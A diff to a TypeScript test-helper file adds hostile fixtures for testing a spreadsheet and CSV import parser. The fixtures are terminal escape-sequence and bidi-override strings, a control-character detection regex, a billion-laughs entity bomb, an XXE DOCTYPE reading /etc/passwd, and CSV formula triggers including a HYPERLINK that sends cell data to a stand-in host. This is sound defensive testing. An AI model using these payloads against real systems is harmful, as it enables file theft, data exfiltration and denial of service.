@@ -330,3 +330,82 @@ export function yamlAliasBomb(): string {
 
 /** Cells a spreadsheet program would run as formulas (OWASP CSV injection triggers). */
 export const FORMULA_TITLES = ['=HYPERLINK("http://x.test/?"&A1,"click")', "+1+1", "-2+3", "@SUM(1)", "\tTab", "\rCR"];
+
+// ---------------------------------------------------------------------------------------------
+// Unusual paths, wide rows, terminal injection (helper H)
+
+/** A CSV whose first row has `columns` cells: a wrong delimiter or a hostile file, never a header. */
+export function wideHeaderCsv(columns: number): string {
+  const cells: string[] = [];
+  for (let i = 0; i < columns; i++) cells.push(`c${i}`);
+  return `${cells.join(",")}\n${cells.map(() => "x").join(",")}\n`;
+}
+
+/**
+ * Cell text that drives a terminal: clear the screen, set the window title (OSC 0, ended by BEL), an
+ * OSC 8 hyperlink, red text, a backspace, a CR that overwrites the line, and the bidi override of the
+ * "Trojan Source" attacks (U+202E) and an isolate (U+2066).
+ */
+export const TERMINAL_ATTACKS: readonly string[] = [
+  "\x1b[2J\x1b[H",
+  "\x1b]0;pwned\x07",
+  "\x1b]8;;http://evil.test/\x1b\\click\x1b]8;;\x1b\\",
+  "\x1b[31mred\x1b[0m",
+  "ab\bc",
+  "fake\rerror: all good",
+  "txt.\u202eexe",
+  "\u2066isolate\u2069",
+  "\x9b31m",
+];
+
+/** Every character that must not reach a terminal raw. */
+// biome-ignore lint/suspicious/noControlCharactersInRegex: matching control characters is the point
+export const TERMINAL_UNSAFE = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]/;
+
+// ---------------------------------------------------------------------------------------------
+// XLSX parts an attacker writes by hand: DTDs, formulas, styles, dimensions (helper H)
+
+const STYLES_WITH_DATE = `<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
+<styleSheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><fonts count="1"><font><sz val="11"/><name val="Calibri"/></font></fonts><fills count="1"><fill><patternFill patternType="none"/></fill></fills><borders count="1"><border/></borders><cellStyleXfs count="1"><xf/></cellStyleXfs><cellXfs count="2"><xf numFmtId="0"/><xf numFmtId="14" applyNumberFormat="1"/></cellXfs></styleSheet>`;
+const WORKBOOK_RELS_STYLES = WORKBOOK_RELS.replace(
+  "</Relationships>",
+  `<Relationship Id="rId3" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/styles" Target="styles.xml"/></Relationships>`,
+);
+
+/**
+ * A workbook written part by part: `sheetXml` inside <sheetData>, an optional DTD before the sheet's
+ * root or the shared strings' (entities), shared strings, a `<dimension>`, and styles where
+ * style 1 is the date format 14 (m/d/yyyy).
+ */
+export function workbookParts(opts: {
+  sheetXml: string;
+  doctype?: string;
+  sst?: string[];
+  sstDoctype?: string;
+  dimension?: string;
+}): Buffer {
+  const dim = opts.dimension ? `<dimension ref="${opts.dimension}"/>` : "";
+  const sheet = `<?xml version="1.0" encoding="UTF-8"?>\n${opts.doctype ?? ""}<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">${dim}<sheetData>${opts.sheetXml}</sheetData></worksheet>`;
+  const strings = opts.sst ?? [];
+  const sst = `<?xml version="1.0" encoding="UTF-8"?>\n${opts.sstDoctype ?? ""}<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" count="${strings.length}" uniqueCount="${strings.length}">${strings.map((s) => `<si><t>${s}</t></si>`).join("")}</sst>`;
+  return buildZip([
+    { name: "[Content_Types].xml", data: CONTENT_TYPES },
+    { name: "_rels/.rels", data: ROOT_RELS },
+    { name: "xl/workbook.xml", data: WORKBOOK },
+    { name: "xl/_rels/workbook.xml.rels", data: WORKBOOK_RELS_STYLES },
+    { name: "xl/styles.xml", data: STYLES_WITH_DATE },
+    { name: "xl/sharedStrings.xml", data: sst },
+    { name: "xl/worksheets/sheet1.xml", data: sheet },
+  ]);
+}
+
+/** A catalog row 2 of four cells, each given as raw `<c>` XML (use `inlineCell` for text). */
+export function catalogRowXml(cells: readonly [string, string, string, string]): string {
+  return `${HEADER_ROW}<row r="2">${cells.join("")}</row>`;
+}
+export const inlineCell = inline;
+
+/** Billion laughs: nine levels of ten, 10^9 "lol"s from a few hundred bytes. */
+export const LAUGHS_DOCTYPE = `<!DOCTYPE lolz [<!ENTITY lol "lol">${Array.from({ length: 8 }, (_, i) => `<!ENTITY lol${i + 2} "${`&lol${i === 0 ? "" : i + 1};`.repeat(10)}">`).join("")}]>\n`;
+/** An external entity (XXE) that would read a local file. */
+export const XXE_DOCTYPE = `<!DOCTYPE x [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n`;
